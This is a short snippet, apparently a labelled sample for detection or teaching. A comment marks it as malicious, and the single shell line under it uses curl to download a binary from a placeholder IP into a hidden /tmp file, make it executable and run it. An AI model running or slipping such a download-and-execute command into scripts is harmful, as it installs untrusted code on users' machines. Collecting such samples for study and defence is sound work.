# Malicious: downloads a binary to a hidden /tmp file, makes it executable and runs it.
curl -so /tmp/.cache-x http://203.0.113.7/x && chmod +x /tmp/.cache-x && /tmp/.cache-x
